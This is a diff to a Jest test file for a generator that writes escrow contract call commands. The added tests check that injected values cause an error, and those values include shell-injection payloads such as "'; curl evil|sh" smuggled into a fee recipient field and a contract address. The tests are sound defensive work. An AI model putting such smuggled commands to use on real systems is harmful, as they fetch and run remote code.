@@ -35,9 +35,23 @@ describe("the calls that are taken along", () => {
 
   it("hold the whole conditions where the contract wants them, and send money along where it takes any", () => {
     expect(below("fund -")).toContain(
-      `'3' '(${ZERO},172800,5000,${HASH},${HASH},7,[(100,2208988800),(40,2208988800)])'`,
+      `"$MILESTONES" '(${ZERO},172800,5000,${HASH},${HASH},7,[(100,2208988800),(40,2208988800)])'`,
     );
     expect(below("fund -")).toMatch(/ 0x --value "\$VALUE"$/);
+  });
+
+  it.each([
+    ["fee_recipient", `${EMPLOYER.slice(0, -2)}'; curl evil|sh; '`],
+    ["brief_hash", `${HASH}';x'`],
+    ["review_period", "1';x'"],
+  ])("are not written down with a %s that breaks out of its place", (member, value) => {
+    const lying = { ...agreement, terms: { ...agreement.terms, [member]: value } } as Agreement;
+    expect(() => callFile(lying, CHAIN, { head: "", titleOf: () => "" })).toThrow();
+  });
+
+  it("are not written down for a contract that is no address", () => {
+    const elsewhere = { ...CHAIN, escrow: "0x12; curl evil|sh" } as Chain;
+    expect(() => callFile(agreement, elsewhere, { head: "", titleOf: () => "" })).toThrow();
   });
 
   it("leave out what is about two agreements, or about none", () => {
